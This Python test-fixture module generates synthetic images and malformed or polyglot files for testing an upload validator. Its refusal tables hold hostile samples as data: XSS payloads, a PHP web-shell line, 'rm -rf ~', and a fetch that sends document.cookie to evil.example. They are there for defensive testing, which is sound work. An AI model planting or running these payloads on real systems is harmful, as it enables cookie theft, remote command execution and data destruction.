"""Draws every picture that the tests need, varied in kind, colour and honesty, so that none has to be stored."""

from __future__ import annotations

import io
import math
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache, lru_cache
from typing import Any

import pi_heif
import pillow_heif
from PIL import Image, ImageChops, ImageDraw, ImageFilter, ImageStat

pillow_heif.register_heif_opener()  # writes
pi_heif.register_heif_opener()  # reads, as in what is shipped

_ORIENTATION, _EXIF_DIRECTORY, _GPS_DIRECTORY = 0x0112, 0x8769, 0x8825


# --- scenes: pixels ---------------------------------------------------------------------------------------------------


def scene(width: int, height: int, seed: int = 0) -> Image.Image:
    """Draw a landscape that compresses about as a photo does: sky, sun, hills in the haze, grain."""
    chance = random.Random(seed)
    small = _landscape(min(width, 640), max(1, round(min(width, 640) * height / width)), chance)
    large = small.resize((width, height), Image.Resampling.BICUBIC)
    return Image.blend(large, _grain(width, height, chance), 0.11)


def _landscape(width: int, height: int, chance: random.Random) -> Image.Image:
    top, bottom = ((chance.randrange(20, 140), chance.randrange(60, 170), chance.randrange(150, 255)), (250, 214, 180))
    ramp = Image.linear_gradient("L").resize((width, height))
    picture = Image.composite(Image.new("RGB", ramp.size, bottom), Image.new("RGB", ramp.size, top), ramp)
    draw = ImageDraw.Draw(picture)
    x, y, radius = chance.random() * width, height * (0.15 + 0.2 * chance.random()), 0.05 * min(width, height) + 1
    for ring in range(6, 0, -1):
        size = radius * (1 + ring / 5)
        draw.ellipse((x - size, y - size, x + size, y + size), fill=(255, 250 - 4 * ring, 225 - 12 * ring))
    for layer in range(5):
        shade = 0.75 - 0.13 * layer
        colour = (int(90 * shade + 20), int((110 + 10 * layer) * shade + 20), int(140 * shade))
        base = height * (0.45 + 0.11 * layer)
        waves = [(chance.random() * 7 + 1, chance.random() * 6.3, height * 0.08 / (n + 1)) for n in range(5)]
        ridge = [
            (
                step,
                base
                + sum(
                    size * math.sin(step / width * rate * (n + 1) + phase)
                    for n, (rate, phase, size) in enumerate(waves)
                ),
            )
            for step in range(0, width + 4, 4)
        ]
        draw.polygon([(0, height), *ridge, (width, height)], fill=colour)
    return picture


def _grain(width: int, height: int, chance: random.Random) -> Image.Image:
    tile = Image.frombytes("RGB", (256, 256), chance.randbytes(256 * 256 * 3)).filter(ImageFilter.GaussianBlur(0.8))
    grain = Image.new("RGB", (width, height))
    for left in range(0, width, 256):
        for top in range(0, height, 256):
            grain.paste(tile, (left, top))
    return grain


def quarters(width: int = 64, height: int = 48) -> Image.Image:
    """Draw four flat quarters, red, green, blue and yellow by rows, in which every turn and mirroring shows."""
    picture = Image.new("RGB", (width, height), (255, 0, 0))
    picture.paste((0, 255, 0), (width // 2, 0, width, height // 2))
    picture.paste((0, 0, 255), (0, height // 2, width // 2, height))
    picture.paste((255, 255, 0), (width // 2, height // 2, width, height))
    return picture


def faded(width: int = 64, height: int = 48) -> Image.Image:
    """Draw a scene that gets transparent to the right."""
    picture = scene(width, height).convert("RGBA")
    picture.putalpha(Image.linear_gradient("L").rotate(90).resize((width, height)))
    return picture


# --- files ------------------------------------------------------------------------------------------------------------


def save(image: Image.Image, kind: str, **options: Any) -> bytes:
    """Write pixels as a file by Pillow's name of its format."""
    stream = io.BytesIO()
    image.save(stream, kind, **options)
    return stream.getvalue()


def opened(data: bytes) -> Image.Image:
    """Return the pixels of a file."""
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


@lru_cache(maxsize=32)
def photo(width: int = 384, height: int = 256, seed: int = 0, quality: int = 90) -> bytes:
    """Return a JPEG like a camera's: 384 x 256 pixels make 16 KB, 480 x 320 24 KB, 12 megapixels 1.6 MB."""
    return save(scene(width, height, seed), "JPEG", quality=quality)


def photo_with_exif(orientation: int = 1, width: int = 64, height: int = 48) -> bytes:
    """Return a JPEG with all that a phone notes: camera, exposure, owner, place, and a thumbnail."""
    return save(
        stored_as(quarters(width, height), orientation), "JPEG", quality=95, subsampling=0, exif=exif(orientation)
    )


def exif(orientation: int = 1) -> bytes:
    """Return an EXIF block with camera, exposure and place, and everything that names a person or a device."""
    notes = Image.Exif()
    notes[0x010F], notes[0x0110], notes[0x8298] = "Kamera AG", "Modell 7", "(c) Ada Lovelace"
    notes[0x010E], notes[0x013B] = "Ada and Charles at home", "Ada Lovelace"
    notes[0x9C9B], notes[0x9C9D] = "Ada at home".encode("utf-16le"), "Ada Lovelace".encode("utf-16le")
    notes[_ORIENTATION] = orientation
    details = notes.get_ifd(_EXIF_DIRECTORY)
    details.update({0x829D: 2.8, 0x8827: 200, 0x9003: "2024:05:17 12:30:00"})
    # owner, serial numbers of camera and lens, unique number, comment, and the maker's own notes
    details.update({0xA430: "Ada Lovelace", 0xA431: "SN-4711", 0xA435: "SN-4712", 0xA420: "4713"})
    details.update({0x9286: b"ASCII\0\0\0by Ada", 0x927C: b"MAKER by Ada"})
    notes.get_ifd(_GPS_DIRECTORY).update({1: "N", 2: (47.0, 22.0, 10.0), 3: "E", 4: (8.0, 32.0, 30.0)})
    return notes.tobytes()


def stored_as(image: Image.Image, orientation: int) -> Image.Image:
    """Return the pixels as a camera stores them that notes this orientation for an upright picture."""
    inverse = {
        2: Image.Transpose.FLIP_LEFT_RIGHT,
        3: Image.Transpose.ROTATE_180,
        4: Image.Transpose.FLIP_TOP_BOTTOM,
        5: Image.Transpose.TRANSPOSE,
        6: Image.Transpose.ROTATE_90,
        7: Image.Transpose.TRANSVERSE,
        8: Image.Transpose.ROTATE_270,
    }
    return image.transpose(inverse[orientation]) if orientation in inverse else image


def oriented(kind: str, orientation: int) -> bytes:
    """Return upright quarters stored turned, with a note of it, in a format that takes EXIF."""
    notes = Image.Exif()
    notes[_ORIENTATION] = orientation
    options: dict[str, Any] = {"quality": 95} if kind in {"JPEG", "WEBP", "AVIF", "HEIF"} else {}
    return save(stored_as(quarters(), orientation), kind, exif=notes.tobytes(), **options)


def animated(kind: str) -> bytes:
    """Return an animation whose first frame is red and whose second is blue."""
    frames = [Image.new("RGB", (40, 30), colour) for colour in ((255, 0, 0), (0, 0, 255))]
    return save(frames[0], kind, save_all=True, append_images=frames[1:], duration=100)


def png(width: int, height: int, depth: int, colour_type: int, rows: bytes, *chunks: tuple[bytes, bytes]) -> bytes:
    """Put a PNG together by hand; ``rows`` are raw samples, without the filter bytes."""
    stride = len(rows) // height
    filtered = b"".join(b"\0" + rows[row * stride : (row + 1) * stride] for row in range(height))
    header = struct.pack(">IIBBBBB", width, height, depth, colour_type, 0, 0, 0)
    parts = [(b"IHDR", header), *chunks, (b"IDAT", zlib.compress(filtered)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, body) for kind, body in parts)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def interlaced_png() -> bytes:
    """Return an interlaced PNG of one colour, 13 x 11 pixels, put together by hand."""
    passes = ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2))
    rows = b""
    for left, top, step, stride in passes:
        for _ in range(top, 11, stride):
            rows += (b"\0" + bytes((40, 80, 120)) * len(range(left, 13, step))) if left < 13 else b""
    header = struct.pack(">IIBBBBB", 13, 11, 8, 2, 0, 0, 1)
    parts = [(b"IHDR", header), (b"IDAT", zlib.compress(rows)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, body) for kind, body in parts)


def deep_grey_png() -> bytes:
    """Return a PNG of 16 bits, 256 x 2 pixels, from black to white."""
    return png(256, 2, 16, 0, struct.pack(">256H", *(level * 257 for level in range(256))) * 2)


def deep_colour_png() -> bytes:
    """Return a PNG of 16 bits a colour, 256 x 2 pixels, from black to orange."""
    row = b"".join(struct.pack(">HHH", level * 257, level * 128, 0) for level in range(256))
    return png(256, 2, 16, 2, row * 2)


def deep_grey_tiff(order: str = "<") -> bytes:
    """Return a TIFF of 16 bits, 256 x 2 pixels, from black to white, little- or big-endian."""
    return grey_tiff(struct.pack(f"{order}256H", *(level * 257 for level in range(256))) * 2, order=order)


def grey_tiff(rows: bytes, bits: int = 16, order: str = "<", white_is_zero: bool = False) -> bytes:
    """Put a TIFF of unsigned samples, 256 x 2 pixels, together by hand."""
    entries = [(256, 256), (257, 2), (258, bits), (259, 1), (262, 0 if white_is_zero else 1)]
    entries += [(273, 8 + 2 + 9 * 12 + 4), (277, 1), (278, 2), (279, len(rows))]
    directory = b"".join(struct.pack(f"{order}HHII", tag, 4, 1, value) for tag, value in entries)
    start = (b"II*\0" if order == "<" else b"MM\0*") + struct.pack(f"{order}IH", 8, len(entries))
    return start + directory + struct.pack(f"{order}I", 0) + rows


def twelve_bit_tiff() -> bytes:
    """Return a TIFF of 12 bits, 256 x 2 pixels, from black to white, as microscopes and X-ray machines write them."""
    samples = [level * 16 + level // 16 for level in range(256)] * 2
    pairs = zip(samples[::2], samples[1::2], strict=True)
    return grey_tiff(b"".join((one << 12 | other).to_bytes(3, "big") for one, other in pairs), bits=12)


# --- colour profiles --------------------------------------------------------------------------------------------------


def wide_profile() -> bytes:
    """Return a colour profile with the primaries of Display P3 and a gamma of 2.2."""
    primaries = {
        b"rXYZ": (0.5151, 0.2412, -0.0011),
        b"gXYZ": (0.2920, 0.6922, 0.0419),
        b"bXYZ": (0.1571, 0.0666, 0.7841),
    }
    tags = {name: _xyz(*value) for name, value in primaries.items()}
    return _profile(
        b"mntr", b"RGB ", b"XYZ ", {**tags, b"rTRC": _gamma(2.2), b"gTRC": _gamma(2.2), b"bTRC": _gamma(2.2)}
    )


def linear_grey_profile() -> bytes:
    """Return a grey profile with a gamma of 1, in which a level of 128 is much lighter than in sRGB."""
    return _profile(b"mntr", b"GRAY", b"XYZ ", {b"kTRC": _gamma(1.0)})


def press_profile() -> bytes:
    """Return a profile of a press whose full cyan is pure blue, unlike anything that simple arithmetic gives."""
    ramp = bytes(range(256))
    nodes = b"".join(_press_node(bool(n & 8), bool(n & 4), bool(n & 2), bool(n & 1)) for n in range(16))
    identity = b"".join(struct.pack(">i", 65536 if n % 4 == 0 else 0) for n in range(9))
    table = b"mft1\0\0\0\0" + bytes([4, 3, 2, 0]) + identity + ramp * 4 + nodes + ramp * 3
    return _profile(b"prtr", b"CMYK", b"Lab ", {b"A2B0": table, b"B2A0": table, b"gamt": table})


def _press_node(cyan: bool, magenta: bool, yellow: bool, black: bool) -> bytes:
    """Return the CIE Lab colour of inks that are printed fully or not at all, as three bytes."""
    lightness = 4 if black else 32 if cyan else 54 if magenta else 97 if yellow else 100
    a = 0 if black else 79 * cyan + 70 * (magenta and not cyan)
    b = 0 if black else -107 * cyan + 90 * (yellow and not cyan)
    return bytes([round(lightness * 2.55), 128 + a, max(0, 128 + b)])


def _profile(device: bytes, space: bytes, connection: bytes, tags: dict[bytes, bytes]) -> bytes:
    """Put a version 2 profile together (ICC.1:2001-04)."""
    text = b"text\0\0\0\0no rights\0"
    name = b"desc\0\0\0\0" + struct.pack(">I", 5) + b"test\0" + bytes(78)
    tags = {b"desc": name, b"cprt": text, b"wtpt": _xyz(0.9642, 1.0, 0.8249), **tags}
    offset, table, body = 128 + 4 + 12 * len(tags), b"", b""
    for tag, content in tags.items():
        table += struct.pack(">4sII", tag, offset + len(body), len(content))
        body += content + bytes(-len(content) % 4)
    size = offset + len(body)
    head = struct.pack(">I4sI4s4s4s12x4s", size, b"lcms", 0x02400000, device, space, connection, b"acsp")
    head += bytes(28) + struct.pack(">iii", 63190, 65536, 54061)
    return head.ljust(128, b"\0") + struct.pack(">I", len(tags)) + table + body


def _xyz(x: float, y: float, z: float) -> bytes:
    return b"XYZ \0\0\0\0" + struct.pack(">iii", *(round(value * 65536) for value in (x, y, z)))


def _gamma(value: float) -> bytes:
    return b"curv\0\0\0\0" + struct.pack(">IH", 1, round(value * 256)) + b"\0\0"


# --- every kind that is taken -----------------------------------------------------------------------------------------

_MAKERS: dict[str, Callable[[], bytes]] = {
    "jpeg": photo,
    "jpeg-progressive": lambda: save(scene(120, 80), "JPEG", progressive=True),
    "jpeg-grey": lambda: save(scene(120, 80).convert("L"), "JPEG"),
    "jpeg-cmyk": lambda: save(scene(120, 80).convert("CMYK"), "JPEG"),
    "jpeg-exif": photo_with_exif,
    "jpeg-mpf": lambda: save(scene(120, 80), "MPO", save_all=True, append_images=[scene(60, 40)]),
    "png": lambda: save(scene(120, 80), "PNG"),
    "png-grey": lambda: save(scene(120, 80).convert("L"), "PNG"),
    "png-alpha": lambda: save(faded(), "PNG"),
    "png-grey-alpha": lambda: save(faded().convert("LA"), "PNG"),
    "png-palette": lambda: save(scene(120, 80).quantize(64), "PNG"),
    "png-one-bit": lambda: save(scene(120, 80).convert("1"), "PNG"),
    "png-16-bit": deep_grey_png,
    "png-16-bit-colour": deep_colour_png,
    "png-animated": lambda: animated("PNG"),
    "webp": lambda: save(scene(120, 80), "WEBP"),
    "webp-lossless-alpha": lambda: save(faded(), "WEBP", lossless=True),
    "webp-animated": lambda: animated("WEBP"),
    "gif": lambda: save(scene(120, 80), "GIF"),
    "gif-animated": lambda: animated("GIF"),
    "bmp": lambda: save(scene(121, 80), "BMP"),
    "bmp-palette": lambda: save(scene(121, 80).quantize(16), "BMP"),
    "tiff": lambda: save(scene(120, 80), "TIFF"),
    "tiff-lzw": lambda: save(scene(120, 80), "TIFF", compression="tiff_lzw"),
    "tiff-jpeg": lambda: save(scene(120, 80), "TIFF", compression="jpeg"),
    "tiff-cmyk": lambda: save(scene(120, 80).convert("CMYK"), "TIFF"),
    "tiff-16-bit": deep_grey_tiff,
    "tiff-16-bit-big-endian": lambda: deep_grey_tiff(">"),
    "tiff-float": lambda: save(Image.linear_gradient("L").convert("F"), "TIFF"),
    "tiff-pages": lambda: save(scene(120, 80), "TIFF", save_all=True, append_images=[scene(60, 40)]),
    "tiff-alpha": lambda: save(faded(), "TIFF"),
    "avif": lambda: save(scene(120, 80), "AVIF"),
    "avif-alpha": lambda: save(faded(), "AVIF"),
    "avif-animated": lambda: animated("AVIF"),
    "heic": lambda: save(scene(120, 80), "HEIF"),
    "heic-alpha": lambda: save(faded(), "HEIF"),
}

KINDS: dict[str, Callable[[], bytes]] = {name: cache(make) for name, make in _MAKERS.items()}
"""A picture of every kind that is taken, drawn once, by a name for test ids."""


# --- what is refused --------------------------------------------------------------------------------------------------


def zip_archive() -> bytes:
    """Return a ZIP archive with one file in it."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("evil.class", b"\xca\xfe\xba\xbe payload")
    return stream.getvalue()


def zip_with_false_end(**fields: int) -> bytes:
    """Return a ZIP archive that Python opens, although its end record does not agree with itself."""
    data = bytearray(zip_archive())
    for field, value in fields.items():
        struct.pack_into("<H", data, len(data) - 22 + {"disk": 4, "here": 8, "comment": 20}[field], value)
    return bytes(data)


def video(frames: bytes | None = None) -> bytes:
    """Return the boxes of a short MP4, as phones put behind the picture of a motion photo."""
    frames = random.Random(1).randbytes(4000) if frames is None else frames
    boxes = ((b"ftyp", b"isom\0\0\2\0isomiso2mp41"), (b"mdat", frames), (b"moov", bytes(64)))
    return b"".join(struct.pack(">I", 8 + len(body)) + kind + body for kind, body in boxes)


SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><circle r="4" onload="alert(1)"/></svg>'
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"

NOT_PICTURES: dict[str, tuple[bytes, str]] = {
    "svg": (SVG, "an SVG drawing"),
    "svg-bare": (b"\xef\xbb\xbf  <!-- drawn by hand -->\n<svg width='4'></svg>", "an SVG drawing"),
    "svg-utf-16": (SVG.decode().encode("utf-16"), "an SVG drawing"),
    "html": (HTML, "an HTML page"),
    "html-fragment": (b"\n <script>alert(1)</script>", "an HTML page"),
    "pdf": (PDF, "a PDF document"),
    "zip": (zip_archive(), "a ZIP archive"),
    "shell": (b"#!/bin/sh\nrm -rf ~\n", "a script"),
    "php": (b"<?php system($_GET['c']); ?>", "a script"),
    "json": (b'{"steps": []}', "JSON text"),
    "xml": (b"<?xml version='1.0'?><note/>", "an XML document"),
    "text": (b"Dear diary, today I drew nothing.", "text"),
    "video": (video(), "a video"),
    "gzip": (b"\x1f\x8b\x08\0 something", "a gzip archive"),
    "program": (b"\x7fELF\2\1\1" + bytes(60), "a program"),
    "photoshop": (b"8BPS\0\1" + bytes(60), "a Photoshop document"),
    "jpeg-xl": (b"\0\0\0\x0cJXL \r\n\x87\n" + bytes(60), "a JPEG XL picture"),
    "icon": (b"\0\0\1\0\1\0" + bytes(60), "an icon"),
    "noise": (random.Random(5).randbytes(4000), "not a picture"),
}
"""Files that are no picture, and what the refusal must call each."""

FOREIGN_TAILS: dict[str, tuple[bytes, str]] = {
    "html": (HTML, "an HTML page"),
    "html-after-padding": (bytes(512) + b"\r\n" + HTML.lower(), "an HTML page"),
    "script": (b"<script src=//evil.example></script>", "a script"),
    "php": (b"\n<?php system($_GET['c']); ?>", "a script"),
    "shell": (b"\n#!/bin/sh\nrm -rf ~\n", "a script"),
    "plain-javascript": (b"\n=1;fetch('//evil.example/'+document.cookie)", "a script"),
    "zip": (zip_archive(), "a ZIP archive"),
    "pdf": (PDF, "a PDF document"),
    "svg": (SVG, "an SVG drawing"),
    "program": (b"\x7fELF\2\1\1" + bytes(60), "a program"),
    "rar": (b"Rar!\x1a\x07\x01\0" + bytes(60), "a RAR archive"),
    "html-behind-a-video": (video() + HTML, "an HTML page"),
    "zip-behind-a-video": (video() + zip_archive(), "a ZIP archive"),
    "zip-with-a-cut-comment": (b"\x01" + zip_with_false_end(comment=9), "a ZIP archive"),
    "zip-of-several-disks": (b"\x01" + zip_with_false_end(disk=7), "a ZIP archive"),
    "zip-that-miscounts": (b"\x01" + zip_with_false_end(here=7), "a ZIP archive"),
    "html-utf-16": (HTML.decode().encode("utf-16"), "an HTML page"),
    "html-utf-16-big-endian": (b"\xfe\xff" + HTML.decode().encode("utf-16-be"), "an HTML page"),
    "img-behind-a-byte": (b"\x01<img src=x onerror=alert(1)>", "an HTML page"),
    "handler-behind-a-byte": (b"\x01<b\nautofocus tabindex=1 onfocus = alert(1)>", "an HTML page"),
    "svg-behind-a-byte": (b"\x01<svg/onload=alert(1)>", "an SVG drawing"),
    "link-behind-a-byte": (b"\x01<a href=javascript:alert(1)>go</a>", "an HTML page"),
    "refresh-behind-a-byte": (b"\x01<head><meta http-equiv=refresh content='0;url=//evil.example'>", "an HTML page"),
    "prefixed-svg-behind-a-byte": (b"\x01<x:svg xmlns:x='http://www.w3.org/2000/svg' onload='1'/>", "an SVG drawing"),
    "prefixed-script-behind-a-byte": (b"\x01<x:svg xmlns:x='s'><x:script>alert(1)</x:script></x:svg>", "a script"),
    "prefixed-script-in-a-video": (video(b"<x:script>alert(1)</x:script>"), "a script"),
    "script-in-a-video": (video(b"<script>alert(1)</script>"), "a script"),
    "php-in-a-video": (video(b"<?php system($_GET['c']);"), "a script"),
    "shell-behind-a-byte": (b"\x80\n#!/bin/sh\nrm -rf ~\n", "a script"),
    "img-after-a-phone-note": (b"LIVE_12345678".ljust(5000) + b"<img src=x onerror=alert(1)>", "an HTML page"),
}
"""What must not lie behind a picture, and what the refusal must call each."""

HARMLESS_TAILS: dict[str, bytes] = {
    "zeros": bytes(4096),
    "line-end": b"\r\n",
    "motion-photo": video(),
    "padded-motion-photo": bytes(100) + video() + bytes(3),
    "samsung": video() + b"\0\0\x01\x0aImage_UTC_Data1715942000000SEFH\x6b\0\0\0\1\0\0\0SEFT",
    "huawei": video() + b"LIVE_12345678      ",
    "camera-notes": b"\x02\x80" + random.Random(3).randbytes(300),
    "video-with-short-marks": video(
        b"%svg <sVg\n%body <html>" + random.Random(4).randbytes(500) + b"<svg \x04<IMG src="
    ),
    "jpeg-with-short-marks": photo(64, 48)[:-2] + b"%svg <sVg\n%body <html>\xff\xd9",
    "samsung-notes-first": b"\0\0\x01\x0aImage_UTC_Data1715942000000"
    + video(b"\x05<sVg\n   <html>")
    + b"SEFH\x6b\0\0\0",
    "byte-order-mark-and-noise": b"\xff\xfe" + random.Random(6).randbytes(3000),
}
"""What cameras and phones put behind a picture."""


def truncated(data: bytes, share: float) -> bytes:
    """Return the first ``share`` of a file."""
    return data[: max(1, int(len(data) * share))]


def lying_png(width: int, height: int) -> bytes:
    """Return a PNG that claims a size, but holds the pixels of a small one."""
    good = save(quarters(), "PNG")
    header = struct.pack(">II", width, height) + good[24:29]
    return good[:8] + _chunk(b"IHDR", header) + good[33:]


def lying_jpeg(width: int, height: int) -> bytes:
    """Return a JPEG that claims a size, but holds the pixels of a small one."""
    data = bytearray(save(quarters(), "JPEG"))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def pdf_polyglot() -> bytes:
    """Return a JPEG that PDF readers open, too: its comment begins a document."""
    comment = PDF[:200]
    good = photo(64, 48)
    return good[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + good[2:]


def zip_polyglot() -> bytes:
    """Return a PNG whose last chunk hides a ZIP archive, whose end is within reach of the file's end."""
    good = save(quarters(), "PNG")
    return good[:-12] + _chunk(b"zzZz", zip_archive()) + good[-12:]


# --- comparison -------------------------------------------------------------------------------------------------------


def levels(image: Image.Image, channel: int = 0) -> list[int]:
    """Return the levels of one channel, row by row."""
    return list(image.getchannel(channel).tobytes())


def pixels(image: Image.Image) -> list[tuple[int, ...]]:
    """Return the pixels of an RGB or RGBA picture, row by row."""
    return list(zip(*(levels(image, channel) for channel in range(len(image.getbands()))), strict=True))


def pixel(image: Image.Image, x: int, y: int) -> tuple[int, ...]:
    """Return one pixel of an RGB or RGBA picture."""
    return tuple(image.crop((x, y, x + 1, y + 1)).tobytes())


def difference(one: Image.Image, other: Image.Image) -> float:
    """Return how much two pictures of the same size differ: the mean over all levels, 0 to 255."""
    assert one.size == other.size, f"{one.size} against {other.size}"
    mode = "RGBA" if "A" in one.mode + other.mode else "RGB"
    apart = ImageChops.difference(one.convert(mode), other.convert(mode))
    return sum(ImageStat.Stat(apart).mean) / len(mode)
